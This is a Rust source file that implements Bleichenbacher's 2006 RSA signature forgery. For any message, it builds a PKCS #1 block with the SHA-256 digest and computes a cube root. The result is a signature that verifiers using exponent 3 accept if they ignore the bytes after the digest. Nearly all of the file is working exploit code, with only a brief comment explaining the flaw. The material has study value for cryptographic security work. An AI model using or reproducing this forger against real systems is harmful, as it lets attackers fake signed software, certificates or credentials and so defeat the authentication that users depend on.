//! A forged RSA signature: what Bleichenbacher's attack of 2006 makes of a lax reader of PKCS #1.
//!
//! With the public exponent 3, whoever lets a verifier ignore what stands behind the digest needs no
//! private key: the signature is the cube root of the wanted octets followed by anything.

use sha2::{Digest, Sha256};

/// A number of 32-bit limbs, the least first.
type Limbs = Vec<u32>;

/// A signature of `message` that holds under any modulus of 2048 bits with exponent 3 if what
/// follows the digest is ignored.
pub fn forge(message: &[u8]) -> Vec<u8> {
    const DIGEST_INFO: [u8; 19] = [
        0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01,
        0x05, 0x00, 0x04, 0x20,
    ];
    let mut wanted = vec![0x00, 0x01];
    wanted.extend([0xff; 8]);
    wanted.push(0x00);
    wanted.extend(DIGEST_INFO);
    wanted.extend(Sha256::digest(message));
    let prefix = wanted.len();
    wanted.resize(256, 0xff);
    let root = cube_root(&limbs(&wanted));
    let cube = octets(&multiply(&multiply(&root, &root), &root));
    assert_eq!(cube[..prefix], wanted[..prefix], "the cube has the digest where it is looked for");
    octets(&root)
}

fn limbs(octets: &[u8]) -> Limbs {
    octets
        .rchunks(4)
        .map(|c| c.iter().fold(0, |limb, &octet| limb << 8 | u32::from(octet)))
        .collect()
}

/// 256 octets, the most significant first.
fn octets(limbs: &[u32]) -> Vec<u8> {
    let mut all: Vec<u8> = limbs.iter().flat_map(|limb| limb.to_le_bytes()).collect();
    all.resize(256, 0);
    all.reverse();
    all
}

fn multiply(a: &[u32], b: &[u32]) -> Limbs {
    let mut product = vec![0_u32; a.len() + b.len()];
    for (place, &x) in a.iter().enumerate() {
        let mut carry = 0_u64;
        for (other, &y) in b.iter().enumerate() {
            let sum = u64::from(x) * u64::from(y) + u64::from(product[place + other]) + carry;
            product[place + other] = sum as u32;
            carry = sum >> 32;
        }
        product[place + b.len()] = carry as u32;
    }
    while product.last() == Some(&0) {
        product.pop();
    }
    product
}

/// The largest number whose cube is not over `number`, bit by bit.
fn cube_root(number: &[u32]) -> Limbs {
    let number: Limbs = multiply(number, &[1]);
    let mut root: Limbs = vec![0; number.len() / 3 + 1];
    for bit in (0..root.len() * 32).rev() {
        root[bit / 32] |= 1 << (bit % 32);
        let trimmed = multiply(&root, &[1]);
        let cube = multiply(&multiply(&trimmed, &trimmed), &trimmed);
        let over = cube.len() > number.len()
            || (cube.len() == number.len() && cube.iter().rev().gt(number.iter().rev()));
        if over {
            root[bit / 32] &= !(1 << (bit % 32));
        }
    }
    multiply(&root, &[1])
}
